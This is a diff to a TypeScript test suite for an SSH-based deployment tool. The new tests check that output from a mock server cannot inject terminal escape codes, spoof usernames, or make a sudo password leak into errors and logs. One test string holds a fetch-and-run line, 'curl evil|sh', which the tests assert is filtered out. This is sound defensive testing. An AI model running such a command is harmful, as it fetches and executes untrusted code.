@@ -20,6 +20,7 @@ import type { NodePlan, SshTarget } from "../../config/plan";
 import { bring } from "../../ssh/delivery";
 import { Dialer } from "../../ssh/dial";
 import { run } from "../../ssh/run";
+import { runNow } from "../../ssh/runNow";
 import { Wire } from "../../ssh/wire";
 import { askAll } from "../../status/ask";
 import { generateKeys, SshServer } from "../plugins/sshServer";
@@ -231,11 +232,12 @@ describe("a machine, before the first step that runs on it", () => {
   it("that takes nothing is named, with what it says and what to do", async () => {
     const wire = new Wire(node());
     await wire.parts();
-    server.shell = () => "cat >/dev/null; echo 'mkdir: No space left on device' >&2; exit 1";
+    server.shell = () =>
+      "cat >/dev/null; printf 'mkdir: No space \\033[2Jleft on device\\n' >&2; exit 1";
     const step = { name: "worker-01-claim", parts: [], inMemory: false };
     await assert.rejects(
       bring(wire, step, new Map([["0123", "hunter2"]]), [], "id"),
-      /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) does not take what worker-01-claim needs there: mkdir: No space left on device\n {2}what to do: /,
+      /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) does not take what worker-01-claim needs there: mkdir: No space  \[2Jleft on device\n {2}what to do: /,
     );
   });
 
@@ -260,6 +262,71 @@ describe("a machine, before the first step that runs on it", () => {
     assert.equal(readFileSync(join(folder, "asked"), "utf8"), "echo hunter2\n".repeat(3));
     assert.ok(!server.log.commands.some((command) => command.includes("hunter2")));
     rmSync(folder, { recursive: true });
+  });
+
+  describe("whose shell takes what it is given for commands", () => {
+    const password = "hunter2-SECRET; and words";
+    const admin = () => node({ user: "admin", sudoPassword: password });
+    const leaks = /hunter2|SECRET|words/;
+    const asked = async () => (await askAll([admin()])).map((answer) => ({ ...answer, node: "" }));
+
+    it("never gets the password, and is told so", async () => {
+      server.shell = () => "bash";
+      await assert.rejects(probe(admin()), ({ message }: Error) => {
+        assert.match(
+          message,
+          /lets user admin in, but does not run what it is given: it says nothing/,
+        );
+        return true;
+      });
+      const answer = await asked();
+      assert.doesNotMatch(JSON.stringify([answer, ...server.log.programs]), leaks);
+    });
+
+    for (const [when, takes] of [
+      ["the password is tried", /sudo/],
+      ["a program runs", /bash -s/],
+    ] as const)
+      it(`says the password once ${when}, and nobody says it again`, async () => {
+        server.shell = (command) =>
+          takes.test(command) ? "bash" : command.includes("sudo") ? "exit 0" : command;
+        const said = await runNow(new Wire(admin()), "invite", "exit 3\n").then(
+          () => "nothing",
+          ({ message }: Error) => message,
+        );
+        assert.match(said, /command not found/);
+        assert.match(server.log.programs.join(), /hunter2/);
+        assert.doesNotMatch(said, leaks);
+        server.shell = (command) =>
+          takes.test(command) ? "bash; exit 3" : "echo; echo groundwork-shell";
+        const answer = await asked();
+        assert.doesNotMatch(JSON.stringify(answer), leaks);
+      });
+  });
+
+  it("is told to lack what we asked for, and nothing that it names itself", async () => {
+    const lines =
+      "\\ngroundwork-shell\\ngroundwork-missing \\033]0;owned\\007 bash; curl evil|sh\\n";
+    const more = "groundwork-missing bash\\n".repeat(2);
+    for (const [says, told] of [
+      [lines, /does not run what it is given/],
+      [lines + more, /has no bash in the PATH .*\n.*apt-get install bash\)/],
+    ] as const) {
+      server.shell = () => `cat >/dev/null; printf '${says}'`;
+      await assert.rejects(probe(node()), ({ message }: Error) => {
+        assert.match(message, told);
+        assert.doesNotMatch(message, /\u001b|evil/);
+        return true;
+      });
+    }
+  });
+
+  it("is believed no user's name that could be none", async () => {
+    server.shell = () => `echo 'Please login as the user "${"a".repeat(500)}"'; exit 1`;
+    await assert.rejects(probe(node()), ({ message }: Error) => {
+      assert.doesNotMatch(message, /set ssh\.user to a{33}/);
+      return true;
+    });
   });
 
   describe("with folders of its own", () => {
